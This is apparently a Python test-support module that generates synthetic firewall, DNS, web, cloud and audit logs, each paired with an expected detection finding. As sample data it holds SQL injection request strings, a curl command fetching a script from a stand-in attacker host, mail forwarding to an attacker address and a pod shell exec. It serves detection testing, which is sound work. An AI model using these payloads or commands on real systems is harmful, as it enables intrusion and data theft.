"""Generators for firewall, network, web and cloud logs; they register in ``evidence_base.KINDS``."""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.support.evidence_base import at, iso, kind, lines, plain, table

SCANNER = "203.0.113.50"
TARGET = "198.51.100.10"
CLIENT = "192.168.7.20"
SCAN = ("port_scan", (SCANNER, TARGET))


def connections() -> Iterator[tuple[float, str, int, str, int, bool]]:
    """Second, source, port, destination, port, whether allowed: ordinary ones, then a scan of 60 ports."""
    for number in range(40):
        yield number * 5, CLIENT, 50_000 + number, "192.0.2.80", 443, True
    for number in range(60):
        yield 300 + number, SCANNER, 40_000 + number, TARGET, 1 + number, False


@kind("UFW log", "ufw.log", *SCAN)
def _ufw() -> bytes:
    return lines(
        f"{at(s):%b %e %H:%M:%S} gw kernel: [ 99.{port:03}] [UFW {'ALLOW' if ok else 'BLOCK'}] IN=eth0 OUT= "
        f"MAC=aa:bb SRC={src} DST={dst} LEN=44 TOS=0x00 TTL=44 ID=1 PROTO=TCP SPT={sport} DPT={port} WINDOW=1024 SYN"
        for s, src, sport, dst, port, ok in connections()
    )


@kind("iptables log", "kern.log", *SCAN, held=True)
def _iptables() -> bytes:
    return lines(
        f"{at(s).isoformat()} gw kernel: [ 7.1] IPT-{'ACCEPT' if ok else 'DROP'}: IN=eth0 OUT= SRC={src} DST={dst} "
        f"LEN=60 TTL=44 PROTO=TCP SPT={sport} DPT={port} SYN URGP=0"
        for s, src, sport, dst, port, ok in connections()
    )


@kind("Cisco ASA", "asa.log", *SCAN, held=True)
def _asa() -> bytes:
    return lines(
        f"{at(s):%b %d %Y %H:%M:%S} asa-1 : %ASA-6-302013: Built outbound TCP connection {port} for "
        f"outside:{dst}/{port} ({dst}/{port}) to inside:{src}/{sport} ({src}/{sport})"
        if ok
        else f"{at(s):%b %d %Y %H:%M:%S} asa-1 : %ASA-4-106023: Deny tcp src outside:{src}/{sport} dst "
        f'inside:{dst}/{port} by access-group "outside_in" [0x0, 0x0]'
        for s, src, sport, dst, port, ok in connections()
    )


@kind("FortiGate", "fortigate.log", *SCAN)
def _fortigate() -> bytes:
    return lines(
        f'date={at(s):%Y-%m-%d} time={at(s):%H:%M:%S} devname="FG1" devid="FGT1" logid="0000000013" type="traffic" '
        f'subtype="forward" level="notice" vd="root" srcip={src} srcport={sport} srcintf="wan1" dstip={dst} '
        f'dstport={port} action="{"accept" if ok else "deny"}" policyid=1 service="TCP" proto=6'
        for s, src, sport, dst, port, ok in connections()
    )


@kind("Palo Alto table", "paloalto.csv", *SCAN)
def _paloalto_table() -> bytes:
    header = ["Domain", "Receive Time", "Serial #", "Type", "Threat/Content Type", "Generate Time", "Source address",
              "Destination address", "Rule", "Source User", "Application", "Source Port", "Destination Port",
              "IP Protocol", "Action", "Bytes"]  # fmt: skip
    rows = (
        (1, f"{at(s):%Y/%m/%d %H:%M:%S}", "0011", "TRAFFIC", "end" if ok else "drop", f"{at(s):%Y/%m/%d %H:%M:%S}",
         src, dst, "r1", "", "ssl", sport, port, "tcp", "allow" if ok else "deny", 900)
        for s, src, sport, dst, port, ok in connections()
    )  # fmt: skip
    return table(header, rows)


@kind("Palo Alto syslog", "pan.log", *SCAN, held=True)
def _paloalto_syslog() -> bytes:
    return lines(
        f"{at(s):%b %e %H:%M:%S} pa-1 1,{at(s):%Y/%m/%d %H:%M:%S},0011,TRAFFIC,{'end' if ok else 'drop'},2561,"
        f"{at(s):%Y/%m/%d %H:%M:%S},{src},{dst},0.0.0.0,0.0.0.0,rule1,,,ssl,vsys1,outside,inside,ae1,ae2,fwd,"
        f"{at(s):%Y/%m/%d %H:%M:%S},1,1,{sport},{port},0,0,0x0,tcp,{'allow' if ok else 'deny'},900,900,0,1"
        for s, src, sport, dst, port, ok in connections()
    )


@kind("pfSense filterlog", "filter.log", *SCAN)
def _pfsense() -> bytes:
    return lines(
        f"{at(s):%b %e %H:%M:%S} pf-1 filterlog[123]: 5,,,1000000103,igb0,match,{'pass' if ok else 'block'},in,4,0x0,,"
        f"64,1,0,DF,6,tcp,60,{src},{dst},{sport},{port},0,S,1,,1024,,mss"
        for s, src, sport, dst, port, ok in connections()
    )


@kind("Windows Firewall log", "pfirewall.log", *SCAN, held=True)
def _pfirewall() -> bytes:
    head = ["#Version: 1.5", "#Software: Microsoft Windows Firewall", "#Time Format: Local",
            ("#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin "
             "icmptype icmpcode info path pid"), ""]  # fmt: skip
    rows = (
        f"{plain(s)} {'ALLOW' if ok else 'DROP'} TCP {src} {dst} {sport} {port} 0 - 0 0 0 - - - RECEIVE 4"
        for s, src, sport, dst, port, ok in connections()
    )
    return lines([*head, *rows])


@kind("AWS VPC flow log", "flow.log", *SCAN)
def _vpc() -> bytes:
    rows = (
        f"2 123456789010 eni-1235b8ca {src} {dst} {sport} {port} 6 1 44 {int(at(s).timestamp())} "
        f"{int(at(s).timestamp()) + 30} {'ACCEPT' if ok else 'REJECT'} OK"
        for s, src, sport, dst, port, ok in connections()
    )
    head = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action"
    return lines([f"{head} log-status", *rows])


@kind("VPC flow log without a header", "eni-1_all.log", *SCAN, held=True)
def _vpc_bare() -> bytes:
    return _vpc().split(b"\n", 1)[1]


@kind("table of connections", "netflow.csv", *SCAN, held=True)
def _connection_table() -> bytes:
    rows = (
        (iso(s), src, sport, dst, port, "tcp", "allowed" if ok else "blocked")
        for s, src, sport, dst, port, ok in connections()
    )
    return table(["timestamp", "src_ip", "src_port", "dst_ip", "dst_port", "proto", "action"], rows)


@kind("ArcSight CEF", "cef.log", *SCAN, held=True)
def _cef() -> bytes:
    return lines(
        f"{at(s):%b %e %H:%M:%S} siem CEF:0|Acme|Gate|1.0|100|Connection {'allowed' if ok else 'denied'}|3|"
        f"rt={int(at(s).timestamp() * 1000)} src={src} spt={sport} dst={dst} dpt={port} proto=TCP "
        f"act={'allow' if ok else 'deny'} msg=rule a\\=b hit"
        for s, src, sport, dst, port, ok in connections()
    )


@kind("QRadar LEEF", "leef.log", *SCAN)
def _leef() -> bytes:
    return lines(
        f"{at(s):%b %e %H:%M:%S} siem LEEF:1.0|Acme|Gate|1.0|{'Allow' if ok else 'Deny'}|"
        + "\t".join([f"devTime={at(s):%b %d %Y %H:%M:%S}", f"src={src}", f"srcPort={sport}", f"dst={dst}",
                     f"dstPort={port}", "proto=TCP", f"action={'allow' if ok else 'deny'}"])
        for s, src, sport, dst, port, ok in connections()
    )  # fmt: skip


def _zeek(path: str, fields: str, rows: Iterator[str]) -> bytes:
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}",
            f"#open\t{at(0):%Y-%m-%d-%H-%M-%S}", f"#fields\t{fields}", "#types\ttime\tstring"]  # fmt: skip
    return lines([*head, *rows, f"#close\t{at(999):%Y-%m-%d-%H-%M-%S}"])


@kind("Zeek conn.log", "conn.log", *SCAN)
def _zeek_conn() -> bytes:
    names = "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes"
    rows = (
        f"{at(s).timestamp():.6f}\tC{port}\t{src}\t{sport}\t{dst}\t{port}\ttcp\t-\t0.1\t0\t0\t{'SF' if ok else 'S0'}"
        for s, src, sport, dst, port, ok in connections()
    )
    return _zeek("conn", names + "\tconn_state", rows)


@kind("Zeek conn.log as JSON", "conn.json", *SCAN, held=True)
def _zeek_conn_json() -> bytes:
    return lines(
        {"ts": at(s).timestamp(), "uid": f"C{port}", "id.orig_h": src, "id.orig_p": sport, "id.resp_h": dst,
         "id.resp_p": port, "proto": "tcp", "conn_state": "SF" if ok else "REJ"}
        for s, src, sport, dst, port, ok in connections()
    )  # fmt: skip


def queries() -> Iterator[tuple[float, str]]:
    """Ordinary names and one that is asked for once."""
    for number in range(100):
        yield number * 7, f"{('www', 'mail', 'cdn')[number % 3]}.corp.example"
    yield 705, "c2.evil.example"


DNS = ("rare", ("c2.evil.example",))


@kind("Zeek dns.log", "dns.log", *DNS, held=True)
def _zeek_dns() -> bytes:
    names = "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\trcode_name\tanswers"
    rows = (
        f"{at(s).timestamp():.6f}\tC{n}\t{CLIENT}\t5353\t192.168.7.1\t53\tudp\t{name}\tA\tNOERROR\t192.0.2.5"
        for n, (s, name) in enumerate(queries())
    )
    return _zeek("dns", names, rows)


@kind("table of DNS queries", "dns.csv", *DNS)
def _dns_table() -> bytes:
    return table(["time", "client", "query", "type"], ((iso(s), CLIENT, name, "A") for s, name in queries()))


def requests() -> Iterator[tuple[float, str, str, str, int, str]]:
    """Second, client, method, target, status, agent: ordinary requests, then SQL injection and path traversal."""
    for number in range(30):
        yield number * 4, "198.51.100.7", "GET", f"/page/{number % 5}", 200, "Mozilla/5.0"
    for number in range(6):
        target = f"/item?id={number}%27%20UNION%20SELECT%20password%20FROM%20users--"
        yield 200 + number, SCANNER, "GET", target, 200, "sqlmap/1.7"


WEB = ("web_client", (SCANNER,))


@kind("nginx JSON log", "access.json", *WEB)
def _nginx() -> bytes:
    return lines(
        {"time_local": f"{at(s):%d/%b/%Y:%H:%M:%S} +0000", "remote_addr": client, "request": f"{method} {target} "
         "HTTP/1.1", "status": str(status), "body_bytes_sent": "512", "http_referrer": "", "http_user_agent": agent}
        for s, client, method, target, status, agent in requests()
    )  # fmt: skip


@kind("Zeek http.log", "http.log", *WEB, held=True)
def _zeek_http() -> bytes:
    names = ("ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\tuser_agent\t"
             "status_code")  # fmt: skip
    rows = (
        f"{at(s).timestamp():.6f}\tC{n}\t{client}\t5000\t{TARGET}\t80\t1\t{method}\twww.corp.example\t{target}\t{agent}"
        f"\t{status}"
        for n, (s, client, method, target, status, agent) in enumerate(requests())
    )
    return _zeek("http", names, rows)


@kind("Splunk table of web lines", "web.csv", *WEB, held=True)
def _splunk_web() -> bytes:
    rows = (
        (iso(s), "www", (f'{client} - - [{at(s):%d/%b/%Y:%H:%M:%S} +0000] "{method} {target} HTTP/1.1" {status} 512 '
         f'"-" "{agent}"'))
        for s, client, method, target, status, agent in requests()
    )  # fmt: skip
    return table(["_time", "host", "_raw"], rows)


@kind("Cloudflare HTTP requests", "cloudflare.jsonl", *WEB, held=True)
def _cloudflare() -> bytes:
    return lines(
        {"EdgeStartTimestamp": iso(s), "ClientIP": client, "ClientRequestHost": "www.corp.example",
         "ClientRequestMethod": method, "ClientRequestURI": target, "EdgeResponseStatus": status,
         "ClientRequestUserAgent": agent, "RayID": "r"}
        for s, client, method, target, status, agent in requests()
    )  # fmt: skip


@kind("Squid access.log", "squid.log", "", ("evil.example",), held=True)
def _squid() -> bytes:
    return lines(
        f"{at(n).timestamp():.3f}    180 {CLIENT} TCP_MISS/200 4110 GET http://{name}/a.html - "
        "HIER_DIRECT/192.0.2.80 text/html"
        for n, name in enumerate(["www.corp.example"] * 30 + ["c2.evil.example"])
    )


@kind("Zeek ssl.log", "ssl.log", held=True)
def _zeek_ssl() -> bytes:
    names = "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tversion\tcipher\tserver_name\tvalidation_status"
    rows = (
        f"{at(s).timestamp():.6f}\tC{n}\t{CLIENT}\t5000\t192.0.2.80\t443\tTLSv12\tx\t{name}\tok"
        for n, (s, name) in enumerate(queries())
    )
    return _zeek("ssl", names, rows)


@kind("Zeek files.log as JSON", "files.json")
def _zeek_files() -> bytes:
    return lines(
        {"ts": at(n).timestamp(), "fuid": f"F{n}", "uid": f"C{n}", "id.orig_h": CLIENT, "id.orig_p": 5000,
         "id.resp_h": "192.0.2.80", "id.resp_p": 80, "source": "HTTP", "mime_type": "application/x-dosexec",
         "filename": "a.exe", "sha256": "a" * 64}
        for n in range(5)
    )  # fmt: skip


@kind("Suricata EVE", "eve.json", "product_alert", ("Cobalt Strike",))
def _suricata() -> bytes:
    flow = {"src_ip": CLIENT, "src_port": 50_000, "dest_ip": "192.0.2.80", "dest_port": 443, "proto": "TCP"}
    ordinary = [
        {"timestamp": iso(n)[:-1] + "+0000", "flow_id": n, "event_type": "dns", **flow, "dest_port": 53,
         "dns": {"type": "query", "rrname": "www.corp.example", "rrtype": "A"}}
        for n in range(20)
    ]  # fmt: skip
    alert = {"action": "allowed", "signature_id": 2_027_865, "signature": "ET MALWARE Cobalt Strike Beacon",
             "category": "A Network Trojan was detected", "severity": 1}  # fmt: skip
    return lines([*ordinary, {"timestamp": iso(60)[:-1] + "+0000", "event_type": "alert", **flow, "alert": alert}])


@kind("AWS GuardDuty", "guardduty.json", "product_alert", ("SSHBruteForce",))
def _guardduty() -> bytes:
    finding = {
        "SchemaVersion": "2.0", "AccountId": "123456789012", "Region": "eu-west-1", "Id": "a1", "Severity": 8,
        "Type": "UnauthorizedAccess:EC2/SSHBruteForce", "Title": "203.0.113.50 is performing SSH brute force attacks",
        "CreatedAt": iso(0), "UpdatedAt": iso(9), "Resource": {"ResourceType": "Instance"},
        "Service": {"Action": {"ActionType": "NETWORK_CONNECTION"}, "Count": 20},
    }  # fmt: skip
    return json.dumps({"Findings": [finding]}).encode()


@kind("Defender alerts", "AlertInfo.csv", "product_alert", ("Mimikatz",), held=True)
def _defender_alerts() -> bytes:
    header = ["Timestamp", "AlertId", "Title", "Category", "Severity", "ServiceSource", "DetectionSource",
              "AttackTechniques"]  # fmt: skip
    rows = [
        (iso(0), "da1", "Mimikatz credential theft tool", "CredentialAccess", "High", "Defender", "EDR", "T1003"),
        (iso(9), "da2", "Unusual sign-in", "InitialAccess", "Low", "Defender", "EDR", ""),
    ]
    return table(header, rows)


@kind("AWS CloudTrail", "cloudtrail.json", "cloud_call", ("StopLogging",))
def _cloudtrail() -> bytes:
    record = {
        "eventVersion": "1.08", "eventTime": iso(0)[:19] + "Z", "eventSource": "cloudtrail.amazonaws.com",
        "eventName": "StopLogging", "awsRegion": "eu-west-1", "sourceIPAddress": SCANNER,
        "userIdentity": {"type": "IAMUser", "userName": "deploy", "arn": "arn:aws:iam::1:user/deploy"},
    }  # fmt: skip
    return json.dumps({"Records": [record]}).encode()


@kind("GCP audit log", "gcp.json", "rule_hit", ("SetIamPolicy",))
def _gcp() -> bytes:
    return json.dumps(
        [
            {"logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity", "timestamp": iso(n * 60),
             "severity": "NOTICE", "insertId": f"i{n}", "resource": {"type": "project", "labels": {"project_id": "p"}},
             "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "methodName": method,
             "serviceName": "cloudresourcemanager.googleapis.com", "resourceName": "projects/p",
             "authenticationInfo": {"principalEmail": "dev@corp.example"},
             "requestMetadata": {"callerIp": SCANNER, "callerSuppliedUserAgent": "gcloud"}}}
            for n, method in enumerate(["storage.objects.list", "SetIamPolicy"])
        ]
    ).encode()  # fmt: skip


@kind("Kubernetes audit log", "audit.log", "rule_hit", ("exec",), held=True)
def _kubernetes() -> bytes:
    return lines(
        {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": f"a{n}", "stage":
         "ResponseComplete", "requestURI": uri, "verb": verb, "user": {"username": "dev", "groups": ["x"]},
         "sourceIPs": [SCANNER], "objectRef": {"resource": "pods", "namespace": "default", "name": "web-0",
         **({"subresource": sub} if sub else {})}, "responseStatus": {"code": 200},
         "requestReceivedTimestamp": iso(n * 60)}
        for n, (verb, sub, uri) in enumerate(
            [("get", "", "/api/v1/pods"), ("create", "exec", "/api/v1/namespaces/default/pods/web-0/exec?command=sh")]
        )
    )  # fmt: skip


@kind("Entra audit log", "AuditLogs.csv", "rule_hit", ("Add member to role",), held=True)
def _entra_audit() -> bytes:
    header = ["Date (UTC)", "CorrelationId", "Service", "Category", "Activity", "Result", "ResultReason",
              "ActorUserPrincipalName", "IPAddress", "Target1DisplayName"]  # fmt: skip
    rows = [
        (iso(0), "c1", "Core Directory", "UserManagement", "Update user", "success", "", "ann@corp.example",
         "198.51.100.11", "bob"),
        (iso(60), "c2", "Core Directory", "RoleManagement", "Add member to role", "success", "", "mara@corp.example",
         SCANNER, "Global Administrator"),
    ]  # fmt: skip
    return table(header, rows)


@kind("Exchange mailbox rules", "o365.jsonl", "rule_hit", ("New-InboxRule",))
def _inbox_rule() -> bytes:
    return lines(
        {"CreationTime": iso(n * 60)[:19], "Id": f"{n}", "Operation": operation, "OrganizationId": "o", "RecordType": 1,
         "ResultStatus": "True", "UserId": "mara@corp.example", "Workload": "Exchange", "ClientIP": f"{SCANNER}:5123",
         "Parameters": [{"Name": "ForwardTo", "Value": "drop@evil.example"}]}
        for n, operation in enumerate(["MailItemsAccessed", "New-InboxRule"])
    )  # fmt: skip


@kind("GitHub audit log", "github.json", "rule_hit", ("protected_branch.destroy",), held=True)
def _github() -> bytes:
    return json.dumps(
        [
            {"@timestamp": int(at(n).timestamp() * 1000), "_document_id": f"d{n}", "action": action, "actor": "dev-1",
             "actor_ip": SCANNER, "org": "corp", "repo": "corp/app", "created_at": int(at(n).timestamp() * 1000)}
            for n, action in enumerate(["git.clone", "protected_branch.destroy"])
        ]
    ).encode()  # fmt: skip


@kind("enriched audit.log", "audit-enriched.log", "event_tactics", ("T1105",))
def _enriched_audit() -> bytes:
    rows = []
    for number in range(6):
        head = f"msg=audit({at(number).timestamp():.3f}:{100 + number}):"
        argument = "http://evil.example/x.sh" if number == 5 else "/etc/motd"
        rows.append(
            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={number} auid=1000 uid=0 "
            f'comm="curl" exe="/usr/bin/curl" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="dev" UID="root"'
        )
        rows.append(f'type=EXECVE {head} argc=4 a0="curl" a1="-o" a2="/tmp/.x.sh" a3="{argument}"')
    return lines(rows)


@kind("syslog of a host", "messages", "", ("systemd",))
def _syslog() -> bytes:
    return lines(f"{at(n):%b %e %H:%M:%S} host systemd[1]: Started Session {n} of user ann." for n in range(30))
